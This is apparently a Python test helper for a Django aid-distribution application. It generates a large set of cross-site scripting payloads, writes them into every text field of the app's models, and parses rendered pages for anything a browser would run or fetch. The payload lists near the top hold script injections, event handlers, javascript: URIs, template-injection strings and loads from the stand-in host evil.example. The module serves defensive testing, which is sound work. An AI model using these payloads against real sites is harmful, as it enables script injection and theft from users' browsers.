"""Scripts in every text field: payloads of many kinds, where they are written, and whether a page would run one."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Sequence
from html.parser import HTMLParser
from typing import Any

from django.db import models

from shouwang.accounts.models import ApiToken, OwnSession, User
from shouwang.core.sealing import SealedJSONField, SealedTextField
from shouwang.goods.models import (
    Donation,
    GiftLine,
    GiftList,
    Handover,
    Holding,
    Item,
    Lot,
    MedicineAsk,
    MedicineNote,
    MedicineOffer,
    Movement,
    Parcel,
    ParcelStep,
    Shelf,
    StockTake,
)
from shouwang.help.models import (
    Attempt,
    DirectoryEntry,
    EveningSignOff,
    GroupItem,
    GroupPart,
    GroupPurchase,
    HelpRequest,
    HotlineTicket,
    OrderLine,
    RequestEvent,
    RequestLine,
    ShoppingRun,
)
from shouwang.incidents.models import Incident
from shouwang.ledgers.models import RegisterImport
from shouwang.notices.models import Channel
from shouwang.people.models import CareFlag, Contact, DoorState, Household, Person, Proxy, Stay
from shouwang.places.models import Dwelling, Place
from shouwang.rounds.models import Attempt as RoundAttempt
from shouwang.rounds.models import Campaign, Round, Spot, TracingLine, TracingList, WalkIn

# How one gets out of where a text stands, what is run then, and how it is hidden from a filter.
WAYS_OUT = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    '" ',
    "' ",
    "`",
    "\\u003e",
    "</option></select>",
)
RUN = (
    "<script>alert(1)</script>", "<script src=//evil.example/x></script>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg/onload=alert`1`>", "<body onload=alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>",
    "<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>x", "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>", "<math><mi xlink:href=javascript:alert(1)>x", "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example/x>",
    "<style>*{background:url(//evil.example)}</style>", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "onmouseover=alert(1) x=", "onfocus=alert(1) autofocus ",
    "<b hx-get=//evil.example hx-trigger=load>", "<b hx-on:load=alert(1)>",
)  # fmt: skip
DISGUISES = (
    str,
    str.upper,
    lambda text: text.replace("<", "<\x0b") if "\x0b" in text else text.replace(" ", "/"),
)
ALONE = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)",
    "{{7*7}}", "{% debug %}", "${alert(1)}", "&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\x3cscript\\x3e", "＜script＞alert(1)＜/script＞", "<b onclick=x()>", "'\"><b>", "<!--", "<x", "\"'`><", "//evil.example/x",
)  # fmt: skip


def payloads(wanted: int) -> list[str]:
    """So many different ones, the plainest first."""
    made = (way + disguise(run) for disguise, way, run in itertools.product(DISGUISES, WAYS_OUT, RUN))
    return list(itertools.islice(dict.fromkeys((*ALONE, *made)), wanted))


FIELDS: dict[type[models.Model], tuple[str, ...]] = {
    User: ("name", "phone"), ApiToken: ("name",), OwnSession: ("device",), Place: ("name",), Dwelling: ("door",),
    Household: ("note",), Person: ("name", "phone", "id_number", "extra"), Stay: ("where",), DoorState: ("source",),
    CareFlag: ("source", "note"), Contact: ("name", "phone", "relation"), Proxy: ("name", "phone"),
    HelpRequest: ("door_said", "asker_name", "asker_phone", "title", "words"), RequestLine: ("name", "unit", "note"),
    Attempt: ("note",), RequestEvent: ("text",), DirectoryEntry: ("name", "phone", "kind"), EveningSignOff: ("remark",),
    HotlineTicket: ("number", "caller_name", "caller_phone", "words", "reply"), Incident: ("name",),
    Channel: ("label",), RegisterImport: ("file_name",),
    Campaign: ("name", "words"), Round: ("name",), Spot: ("name",), RoundAttempt: ("note",), WalkIn: ("name", "door", "phone"),
    TracingList: ("name", "sender"), TracingLine: ("name", "phone", "door", "asked", "passed_to", "note"),
    GroupPurchase: ("title", "supplier", "reason"), GroupItem: ("name", "unit"), GroupPart: ("door_said", "name_said"),
    ShoppingRun: ("shop", "reason"),
    OrderLine: ("name", "said", "unit", "brand", "origin", "size", "note", "difference_words", "question"),
    Parcel: ("carrier_code", "door_said", "note"), ParcelStep: ("reason",), Shelf: ("name",),
    Item: ("name", "unit", "category"), Lot: ("code",), Movement: ("to_words", "origin", "reason"),
    Holding: ("words", "why"), Handover: ("from_words", "to_words"), Donation: ("donor_name", "donor_phone"),
    GiftList: ("name", "occasion", "what", "why"), GiftLine: ("to_words",), StockTake: ("reason",),
    MedicineNote: ("source", "why_ended"), MedicineOffer: ("giver_name", "giver_phone", "door_said", "words", "batch"),
    MedicineAsk: ("door_said", "asker_name", "asker_phone", "words", "doctor_words"),
}  # fmt: skip


def write_everywhere(texts: Sequence[str]) -> int:
    """Puts the texts into every field of every row, past all checks; sealed fields hold all of them. How many fields."""
    turn, written = itertools.cycle(texts), 0
    for model, names in FIELDS.items():
        for row in model.objects.all():  # type: ignore[attr-defined]
            for name in names:
                setattr(row, name, _value(model._meta.get_field(name), turn, texts))
                written += 1
            row.save(update_fields=names)
    return written


def _value(field: Any, turn: Any, texts: Sequence[str]) -> Any:
    if isinstance(field, SealedJSONField):
        return dict(zip(texts, reversed(texts), strict=True))
    if isinstance(field, SealedTextField):
        return "\n".join(texts)
    most = field.max_length
    return next((text for text in itertools.islice(turn, len(texts)) if len(text) <= most), next(turn)[:most])


# The gate's camera: a picture of what stands before it, and nothing that could be fetched or run.
OWN_CAMERA = [
    ("class", "gate-camera"), ("data-camera-view", None), ("hidden", None), ("muted", None), ("playsinline", None),
]  # fmt: skip


class Page(HTMLParser):
    """Looks for whatever a browser would run, fetch from elsewhere or obey, and that no template of ours writes."""

    ADDRESSES = frozenset(
        {"href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post", "data-url"}
    )
    NEVER = frozenset({"iframe", "object", "embed", "base", "marquee", "math", "video", "style"})

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        if (tag in self.NEVER and attrs != OWN_CAMERA) or (tag == "meta" and "http-equiv" in given):
            self.faults.append(f"<{tag}>")
        for name, value in given.items():
            if name.startswith(("on", "hx-on")) or name in ("srcdoc", "style"):
                self.faults.append(f"<{tag} {name}>")
            if name in self.ADDRESSES and self._leads_out(value):
                self.faults.append(f"<{tag} {name}={value[:40]}>")
        self._in_script = tag == "script" and given.get("type") != "application/json"

    def _leads_out(self, address: str) -> bool:
        plain = re.sub(r"[\s\x00-\x1f]", "", address).lower()
        return (
            plain.startswith(("javascript:", "vbscript:", "data:text", "//"))
            or "evil.example" in plain.split("?")[0]
        )

    def handle_data(self, text: str) -> None:
        if self._in_script and text.strip():
            self.faults.append(f"<script>{text.strip()[:40]}")

    def handle_endtag(self, tag: str) -> None:
        self._in_script = False


# A tag of ours ends in "> as well; what stands behind it must say more.
SPECIAL = re.compile(r"[<>\"']")


def would_run(answer: Any, texts: Sequence[str]) -> tuple[list[str], bool]:
    """What is wrong with an answer to be shown by a browser, and whether any of the texts is on it at all."""
    kind = answer.headers.get("Content-Type", "")
    if "html" not in kind:
        return _elsewhere(answer, kind), False
    text = answer.content.decode()
    faults = [
        f"as it was written: {found}"
        for found in texts
        if SPECIAL.search(found.removeprefix('">')) and found in text
    ]
    if "script-src 'self'" not in answer.headers.get("Content-Security-Policy", ""):
        faults.append("no policy")
    page = Page()
    page.feed(text)
    page.close()
    return faults + page.faults, any(
        mark in text for mark in ("alert(1)", "ALERT(1)", "alert`1`", "evil.example", "EVIL.EXAMPLE")
    )


def _elsewhere(answer: Any, kind: str) -> list[str]:
    """What is no page must not be taken for one."""
    if "json" in kind and answer.content:
        json.loads(answer.content)
    return [] if answer.headers.get("X-Content-Type-Options") == "nosniff" else ["may be taken for a page"]
